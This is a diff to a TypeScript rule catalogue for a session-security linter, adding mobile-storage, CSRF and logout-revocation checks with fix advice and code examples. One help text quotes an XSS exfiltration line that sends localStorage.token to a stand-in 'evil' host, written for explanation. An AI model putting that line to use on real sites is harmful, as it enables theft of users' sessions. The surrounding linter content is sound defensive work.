@@ -40,16 +40,19 @@ export const SESSION_CODE_RULES: RuleMeta[] = [
     id: 'session/token-in-web-storage',
     severity: 'error',
     security: true,
-    description: 'A token (or the login response holding one) is written to localStorage, sessionStorage or AsyncStorage',
-    help: "Web storage is readable by every script on the origin: one XSS line (`fetch('//evil/?'+localStorage.token)`) steals the token, and unlike a cookie it cannot be made HttpOnly. Keep the session in an HttpOnly cookie set by the server (res.cookie('sid', id, { httpOnly: true, secure: true, sameSite: 'lax' })), or hold a short-lived access token in memory only.",
-    examples: { valid: [{ code: "localStorage.setItem('theme', 'dark')" }], invalid: [{ code: "localStorage.setItem('user', JSON.stringify(response.data))", note: 'response of a login request' }] },
+    description: 'A token (or the login response holding one) is written to web storage (localStorage, sessionStorage, localforage) or plain mobile storage (AsyncStorage, MMKV, Capacitor Preferences, Ionic Storage)',
+    help: "Web storage is readable by every script on the origin: one XSS line (`fetch('//evil/?'+localStorage.token)`) steals the token, and unlike a cookie it cannot be made HttpOnly. Keep the session in an HttpOnly cookie set by the server (res.cookie('sid', id, { httpOnly: true, secure: true, sameSite: 'lax' })), or hold a short-lived access token in memory only. On a phone, React Native AsyncStorage, react-native-mmkv without an encryptionKey, Capacitor Preferences and Ionic Storage are plain files that backups, rooted devices and debug builds read: keep bearer tokens in the iOS Keychain / Android Keystore through expo-secure-store (SecureStore.setItemAsync) or react-native-keychain (Capacitor: a secure-storage plugin). The value is followed from the login call (fetch, axios, ky, Angular HttpClient, $fetch) through destructuring, helpers, Pinia/Vuex store methods and Redux Toolkit reducers in the file; a storage key that names a token (`token`, `accessToken`, `jwt`) filled at run time counts too, a neutral key (`user`) does not.",
+    examples: {
+      valid: [{ code: "localStorage.setItem('theme', 'dark')" }, { code: "await SecureStore.setItemAsync('userToken', token)" }],
+      invalid: [{ code: "localStorage.setItem('user', JSON.stringify(response.data))", note: 'response of a login request' }, { code: "await AsyncStorage.setItem('userToken', token)" }],
+    },
   },
   {
     id: 'session/token-in-url',
     severity: 'warning',
     security: true,
-    description: 'A token travels in a URL query string',
-    help: 'A token in a URL lands in server and proxy logs, browser history and the Referer header of every link the page follows, where others read and replay it (RFC 6750 section 5.3). Send it in the Authorization header (`Authorization: Bearer <token>`) or an HttpOnly cookie, and read it from there (ExtractJwt.fromAuthHeaderAsBearerToken()).',
+    description: 'A token travels in a URL query string (one-time link tokens at info)',
+    help: 'A token in a URL lands in server and proxy logs, browser history and the Referer header of every link the page follows, where others read and replay it (RFC 6750 section 5.3). Send it in the Authorization header (`Authorization: Bearer <token>`) or an HttpOnly cookie, and read it from there (ExtractJwt.fromAuthHeaderAsBearerToken()); socket.io: io(url, { auth: { token } }). Found in template literals, concatenations, URLSearchParams and `url.searchParams.set/append`, redirects and WebSocket URLs. One-time link tokens (e-mail verification, password reset, magic links) are how those flows work and are reported at info: keep them single-use and short-lived, store only their hash, and serve the landing page with Referrer-Policy: no-referrer.',
     examples: { valid: [{ code: "fetch(url, { headers: { Authorization: `Bearer ${token}` } })" }], invalid: [{ code: 'fetch(`/api/me?token=${token}`)' }, { code: 'const token = req.query.token' }] },
   },
   {
@@ -123,5 +126,27 @@ export const SESSION_CODE_RULES: RuleMeta[] = [
     description: 'A refresh token is returned in a JSON body, where page scripts can read it',
     help: "A refresh token mints new access tokens for weeks: sent in a JSON body it ends up in script-readable memory or storage, where one XSS steals the whole session. Send it as an HttpOnly cookie scoped to the refresh path: res.cookie('refresh_token', token, { httpOnly: true, secure: true, sameSite: 'strict', path: '/auth/refresh' }).",
     examples: { valid: [{ code: "res.cookie('refresh_token', refreshToken, { httpOnly: true, secure: true, sameSite: 'strict', path: '/auth/refresh' }); res.json({ accessToken })" }], invalid: [{ code: 'res.json({ accessToken, refreshToken })' }] },
+  },
+  {
+    id: 'session/csrf-unprotected',
+    severity: 'warning',
+    security: true,
+    description: 'A cookie-authenticated state-changing route has neither SameSite=Lax/Strict on the auth cookie nor a CSRF defence',
+    help: "When the session rides in a cookie, the browser attaches it to requests other sites make: a hidden form on any page the victim opens can POST to /transfer as them. Two defences, best together: SameSite=Lax or Strict on the auth cookie, and a CSRF check on every POST/PUT/PATCH/DELETE route (csrf-csrf or csrf-sync for Express, lusca, @fastify/csrf-protection, hono/csrf, or verifying the Origin header). csurf still works but is deprecated (archived in 2022) and reported at info. Next.js server actions check the Origin themselves. Reported when this file shows the auth cookie's SameSite (none or missing), has no defence, and registers routes that use the cookie session (they read the session, the user it loaded or the auth cookie, or sit behind a session guard such as ensureLoggedIn); login, logout, register, refresh and webhook routes are left out, and so are routes that authenticate with a bearer token.",
+    examples: {
+      valid: [{ code: "app.use(session({ secret, cookie: { httpOnly: true, secure: true, sameSite: 'lax' } })); app.post('/transfer', handler)" }, { code: "const { doubleCsrfProtection } = doubleCsrf(opts); app.use(doubleCsrfProtection); app.post('/transfer', handler)" }],
+      invalid: [{ code: "app.use(session({ secret, cookie: { secure: true } })); app.post('/transfer', (req, res) => move(req.session.user, req.body))" }],
+    },
+  },
+  {
+    id: 'session/logout-not-revoked',
+    severity: 'warning',
+    security: true,
+    description: 'A logout handler clears the cookie but leaves the refresh token or server session valid',
+    help: "Clearing a cookie only makes this browser forget it: the refresh token or session id itself stays valid on the server until it expires, so a copy taken earlier (XSS, a shared computer, a proxy log) keeps working after the user logged out. On logout, revoke the server side too: req.session.destroy() (passport: req.logout(cb)), delete the refresh token from its store or add its id to a deny-list, then clear the cookie. Reported in code when the handler's route or name says logout, it clears a refresh-token cookie (or the session cookie of a server-side session) and makes no store write at all; in captures, when a bearer token, auth cookie or refresh token sent to a logout is accepted (2xx) by a later request.",
+    examples: {
+      valid: [{ code: "app.post('/logout', async (req, res) => { await RefreshToken.deleteOne({ token: req.cookies.refreshToken }); res.clearCookie('refreshToken'); res.sendStatus(204) })" }],
+      invalid: [{ code: "app.post('/logout', (req, res) => { res.clearCookie('refreshToken'); res.sendStatus(204) })" }],
+    },
   },
 ];
